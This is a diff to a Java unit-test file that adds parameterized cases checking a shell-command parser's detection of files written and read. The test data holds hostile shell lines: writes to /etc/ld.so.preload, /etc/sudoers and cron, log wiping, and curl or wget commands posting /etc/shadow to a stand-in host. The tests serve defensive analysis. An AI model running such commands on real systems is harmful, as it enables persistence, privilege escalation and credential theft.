@@ -10,6 +10,7 @@ import java.util.stream.IntStream;
 import java.util.stream.LongStream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
@@ -159,6 +160,71 @@ class ShellTextTest {
     assertThat(of("X=1 sudo -E curl -k x | cat; exec nginx").commands())
         .extracting(line -> line.chain().toString())
         .containsExactly("[sudo -E curl -k x, curl -k x]", "[cat]", "[nginx]");
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '#',
+      quoteCharacter = '`',
+      value = {
+        "echo x > /etc/ld.so.preload          # /etc/ld.so.preload",
+        "echo x >> ../etc/rc.local            # /etc/rc.local",
+        "{ echo a; echo b; } > /etc/x         # /etc/x",
+        "(cd /; id) &> /y                     # /y",
+        "> /var/log/wtmp                      # /var/log/wtmp",
+        ": > f                                # /app/f",
+        "echo x >| /a                         # /a",
+        "`cat <<E > /etc/cron.d/x\nline\nE\n` # /etc/cron.d/x",
+        "echo x | sudo tee -a /etc/sudoers    # /etc/sudoers",
+        "dd if=/a of=/b bs=1                  # /b",
+        "cp -a /a /b/c                        # /b/c",
+        "cp -t /b /a/c                        # /b/c",
+        "mv /a /b                             # /b",
+        "install -m 755 /a /etc/init.d/       # /etc/init.d",
+        "ln -sf /a /b                         # /b",
+        "sed -i s/a/b/ /etc/ssh/sshd_config   # /etc/ssh/sshd_config",
+        "sed -i.bak -e s/a/b/ /c              # /c",
+        "curl -o/opt/k http://x/k             # /opt/k",
+        "wget -P /opt http://x/m?a            # /opt/m",
+        "touch /a                             # /a",
+        "truncate -s 0 /var/log/x             # /var/log/x",
+      })
+  void filesThatAreWrittenAreKnown(String text, String path) {
+    assertThat(of(text).commands().stream().flatMap(line -> line.effective().writes().stream()))
+        .contains(path);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "cat /a", "echo > \"/b\" < /a", "sed s/a/b/ /c", "echo /a", "tee", "id 2>/dev/null", "curl http://x/k"
+      })
+  void whatIsReadOrPrintedIsNotWritten(String text) {
+    assertThat(of(text).commands().stream().flatMap(line -> line.effective().writes().stream()))
+        .doesNotContain("/a", "/c", "/app/k", "/dev/null");
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "cat /etc/shadow                               | /etc/shadow",
+        "cat ../etc/shadow                             | /etc/shadow",
+        "cat < /etc/shadow                             | /etc/shadow",
+        "while read l; do echo $l; done < /etc/shadow  | /etc/shadow",
+        "dd if=/etc/shadow                             | /etc/shadow",
+        "curl -d @/etc/shadow http://x                 | /etc/shadow",
+        "curl -F f=@/etc/shadow;type=x http://x        | /etc/shadow",
+        "curl --data-binary=@/etc/shadow http://x      | /etc/shadow",
+        "curl -T /etc/shadow http://x                  | /etc/shadow",
+        "curl file:///etc/shadow                       | /etc/shadow",
+        "wget --post-file=/etc/shadow http://x         | /etc/shadow",
+        "tar cf - /etc/shadow                          | /etc/shadow",
+        "grep -f /etc/shadow x                         | /etc/shadow",
+      })
+  void filesThatAreReadAreKnown(String text, String path) {
+    assertThat(of(text).commands().stream().flatMap(line -> line.effective().reads().stream()))
+        .contains(path);
   }
 
   /** 100 shells that read each other, asked for 20,000 sources: each is looked at once. */
